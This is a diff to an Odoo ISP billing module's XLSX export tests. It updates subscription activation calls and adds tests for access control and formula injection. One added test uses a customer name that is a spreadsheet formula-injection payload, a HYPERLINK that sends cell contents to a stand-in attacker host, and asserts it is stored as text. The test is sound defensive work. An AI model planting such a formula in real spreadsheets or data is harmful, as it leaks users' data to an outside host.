@@ -7,6 +7,7 @@ from datetime import date as d
 
 import openpyxl
 
+from odoo.exceptions import AccessError
 from odoo.tests.common import at_install, post_install
 from odoo.tools import mute_logger
 
@@ -175,7 +176,7 @@ class TestXlsxExports(IspBillingCommon):
             subscription = self._create_subscription(
                 partner, product_id=product.id, price_unit=price,
                 billing_cycle_day=11)
-            subscription.action_activate('2026-01-11')
+            subscription._activate(date_start='2026-01-11')
         run = self.env['isp.billing.run'].create({
             'date': '2026-03-11', 'cycle_day': 11})
         run.with_context(test_queue_job_no_delay=True).action_start()
@@ -205,9 +206,9 @@ class TestXlsxExports(IspBillingCommon):
     def test_subscription_list_states_numbers_and_dates(self):
         active = self._create_subscription(
             self.alice, price_unit=40.0, discount=25.0)
-        active.action_activate('2026-02-01')
+        active._activate(date_start='2026-02-01')
         suspended = self._create_subscription(self.bob, price_unit=20.0)
-        suspended.action_activate('2026-03-01')
+        suspended._activate(date_start='2026-03-01')
         suspended.action_suspend()
         pending = self._create_subscription(self.bob, price_unit=15.0)
         subscriptions = active | suspended | pending
@@ -239,3 +240,28 @@ class TestXlsxExports(IspBillingCommon):
                     for row in book['States'].iter_rows(min_row=4)}
         self.assertEqual(formulas['Active'],
                          "=COUNTIF('Subscriptions'!E4:E6,A5)")
+
+    def test_text_starting_with_equals_stays_text(self):
+        """A customer named like a formula is written as text: opened in a
+        spreadsheet, it is not run."""
+        evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        customer = self.env['res.partner'].create(
+            {'name': evil, 'customer': True})
+        subscription = self._create_subscription(customer)
+        book, _values = self._render(
+            'isp_billing.isp_subscription_xlsx_report', subscription.ids)
+        texts = [cell for row in book['Subscriptions'].iter_rows(min_row=4)
+                 for cell in row if cell.value == evil]
+        self.assertTrue(texts)
+        self.assertEqual({cell.data_type for cell in texts}, {'s'})
+
+    def test_export_is_refused_outside_billing(self):
+        """``generate_xlsx_report`` is public: called over JSON-RPC (a
+        list instead of records) or by a user without billing rights, it
+        refuses before reading anything."""
+        report = self.env['report.isp_billing.subscription_xlsx']
+        with self.assertRaises(AccessError):
+            report.generate_xlsx_report(None, {}, self.subscription.ids)
+        with self.assertRaises(AccessError):
+            report.sudo(self.isp_user).generate_xlsx_report(
+                None, {}, self.subscription.sudo(self.isp_user))
